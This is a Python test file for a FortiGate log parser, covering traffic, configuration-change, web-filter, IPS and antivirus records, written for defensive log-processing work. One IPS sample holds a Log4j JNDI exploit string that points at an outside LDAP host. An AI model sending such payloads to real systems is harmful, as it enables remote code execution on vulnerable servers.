"""FortiGate records as FortiOS 6.x/7.x write them, on lines written for these tests.

Addresses are documentation ranges, names invented; field names follow the
FortiOS Log Message Reference.
"""

from __future__ import annotations

from typing import Any

import pytest

from secops import ecs
from secops.registry import LineParser, ParseContext, get_parser, line_parsers

CTX = ParseContext(year=2026)


def parse(line: str) -> dict[str, Any]:
    parser = get_parser("fortigate")
    assert isinstance(parser, LineParser)
    return ecs.flatten(parser.parse(line, CTX))


def traffic(action: str) -> str:
    return (
        '<189>date=2026-03-14 time=10:20:30 devname="FGT-HQ" devid="FG200F0000000001" eventtime=1773476430123456789 '
        'tz="+0200" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.0.1.15 '
        'srcport=51234 srcintf="port2" dstip=198.51.100.80 dstport=443 dstintf="port1" proto=6 '
        f'action="{action}" policyid=12 policyname="LAN to WAN" service="HTTPS" duration=35 sentbyte=4512 '
        "rcvdbyte=88213 sentpkt=40 rcvdpkt=70"
    )


@pytest.mark.parametrize("action", ["close", "timeout", "server-rst", "client-rst", "ip-conn", "accept"])
def test_allowed_sessions_end_in_many_ways(action: str) -> None:
    # FortiOS: every traffic action but "deny" (and the session-start log) says how an allowed session ended.
    event = parse(traffic(action))
    assert event["event.type"] == ["connection", "end", "allowed"]
    assert event["event.action"] == action


def test_denied_and_started_sessions() -> None:
    assert parse(traffic("deny"))["event.type"] == ["connection", "end", "denied"]
    assert parse(traffic("start"))["event.type"] == ["connection", "start", "allowed"]


def test_eventtime_is_the_start_in_any_precision() -> None:
    assert parse(traffic("close"))["event.start"] == "2026-03-14T08:20:30.123Z"  # nanoseconds (FortiOS 6.2+)
    for written in ("1773476430", "1773476430123"):  # seconds, milliseconds
        line = traffic("close").replace("eventtime=1773476430123456789", f"eventtime={written}")
        assert parse(line)["event.start"].startswith("2026-03-14T08:20:30.")
    assert parse(traffic("close"))["@timestamp"] == "2026-03-14T08:20:30.000Z"  # date/time with tz, as before


def test_configuration_change_event() -> None:
    event = parse(
        '<189>date=2026-03-14 time=10:21:00 devname="FGT-HQ" devid="FG200F0000000001" logid="0100044547" '
        'type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" '
        'user="admin" ui="GUI(192.0.2.44)" action="Edit" cfgtid=1234 cfgpath="firewall.policy" cfgobj="12" '
        'cfgattr="status[enable->disable]" msg="Edit firewall.policy 12"'
    )
    assert (event["event.category"], event["event.type"]) == (["configuration"], ["change"])
    assert event["user.name"] == "admin"


def test_webfilter_and_ips_name_what_they_inspected() -> None:
    web = parse(
        '<190>date=2026-03-14 time=10:20:35 devname="FGT-HQ" devid="FG200F0000000001" logid="0316013056" '
        'type="utm" subtype="webfilter" eventtype="ftgd_blk" level="warning" vd="root" policyid=12 '
        'srcip=10.0.1.15 srcport=50001 dstip=198.51.100.91 dstport=443 proto=6 service="HTTPS" '
        'hostname="bad.example.com" profile="default" action="blocked" url="https://bad.example.com/login" '
        'msg="URL belongs to a denied category in policy" cat=26 catdesc="Malicious Websites"'
    )
    assert (web["url.domain"], web["url.original"]) == ("bad.example.com", "https://bad.example.com/login")
    assert web["rule.category"] == "Malicious Websites"
    ips = parse(
        '<190>date=2026-03-14 time=10:20:34 devname="FGT-HQ" devid="FG200F0000000001" logid="0419016384" '
        'type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" severity="critical" '
        'srcip=198.51.100.7 dstip=10.0.5.10 srcport=40001 dstport=8080 proto=6 action="dropped" '
        'attack="Apache.Log4j.Error.Log.Remote.Code.Execution" hostname="app.example.org" '
        'url="/api?q=${jndi:ldap://198.51.100.7/a}" attackid=51006'
    )
    assert (ips["url.domain"], ips["url.path"]) == ("app.example.org", "/api?q=${jndi:ldap://198.51.100.7/a}")
    assert "url.original" not in ips  # a path whose query holds "://" is still a path
    virus = parse(
        '<190>date=2026-03-14 time=10:20:33 devname="FGT-HQ" devid="FG200F0000000001" logid="0211008192" '
        'type="utm" subtype="virus" eventtype="infected" level="warning" vd="root" srcip=10.0.1.15 '
        'dstip=198.51.100.90 srcport=50000 dstport=80 proto=6 action="blocked" filename="eicar.com" '
        'virus="EICAR_TEST_FILE" url="http://files.example.net/eicar.com" agent="curl/8.5.0"'
    )
    assert (virus["file.name"], virus["user_agent.original"]) == ("eicar.com", "curl/8.5.0")
    assert virus["url.original"] == "http://files.example.net/eicar.com"


def test_csv_syslog_format() -> None:
    # FortiOS "set format csv": the same pairs joined by commas; a quoted value keeps its own commas.
    line = (
        '<189>date=2026-03-14,time=10:20:30,devname="FGT-HQ",devid="FG200F0000000001",tz="+0200",'
        'logid="0000000013",type="traffic",subtype="forward",level="notice",vd="root",srcip=10.0.1.15,'
        'srcport=51234,dstip=198.51.100.80,dstport=443,proto=6,action="close",policyid=12,'
        'policyname="LAN, to WAN",msg="say \\"hi\\", then go",sentbyte=4512,rcvdbyte=88213'
    )
    found = next((p.name for p in line_parsers() if p.sniff_line(line)), None)
    assert found == "fortigate"
    event = parse(line)
    assert event["@timestamp"] == "2026-03-14T08:20:30.000Z"
    assert (event["source.ip"], event["destination.port"], event["source.bytes"]) == ("10.0.1.15", 443, 4512)
    assert (event["rule.name"], event["message"]) == ("LAN, to WAN", 'say "hi", then go')
    assert event["event.type"] == ["connection", "end", "allowed"]
